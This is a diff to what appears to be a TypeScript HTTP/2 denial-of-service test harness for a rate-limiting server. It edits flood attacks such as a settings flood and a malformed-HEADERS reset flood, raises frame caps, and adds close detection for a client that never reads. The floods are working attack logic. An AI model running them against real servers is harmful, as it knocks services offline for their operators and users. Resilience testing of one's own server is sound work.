@@ -63,12 +63,23 @@ const streamId = (i: number) => 2 * i + 1;
 // A whole ShouldRateLimit call on one stream.
 const call = (id: number) => Buffer.concat([encodeFrame(HEADERS, END_HEADERS, id, REQUEST_HEADERS), encodeFrame(DATA, END_STREAM, id, BODY)]);
 
+// A frame of a type no one defined, which a server must ignore (RFC 9113 5.5).
+const IGNORED = encodeFrame(0xfa, 0, 0);
+
 async function finish(name: string, c: RawH2, detail?: Record<string, number>): Promise<AttackResult> {
-  await c.waitClosed(SETTLE_MS);
+  if (c.options.read !== false) await c.waitClosed(SETTLE_MS);
+  else {
+    // A peer that does not read learns of the close only from a write that fails.
+    for (const end = performance.now() + SETTLE_MS; !c.closed && performance.now() < end; ) {
+      c.send(IGNORED, 0);
+      await c.waitClosed(20);
+    }
+  }
   return result(name, c, detail);
 }
 
-const flood = { maxFrames: 1_000_000, maxMs: FLOOD_MS };
+// Floods end by time; the count only bounds a server that takes frames faster than we can make them.
+const flood = { maxFrames: 50_000_000, maxMs: FLOOD_MS };
 
 // --- class 1: header blocks that never end
 
@@ -124,7 +135,7 @@ export async function settingsFlood(port: number): Promise<AttackResult> {
 export async function resetDrawingFlood(port: number): Promise<AttackResult> {
   const c = await RawH2.open(port, { read: false });
   const bad = requestHeaders({ 'X-Upper': '1' });
-  await c.flood((i) => encodeFrame(HEADERS, END_HEADERS | END_STREAM, streamId(i), bad), { ...flood, maxFrames: 1_000_000_000 });
+  await c.flood((i) => encodeFrame(HEADERS, END_HEADERS | END_STREAM, streamId(i), bad), flood);
   return finish('malformed HEADERS (RST_STREAM each), never reads', c);
 }
 
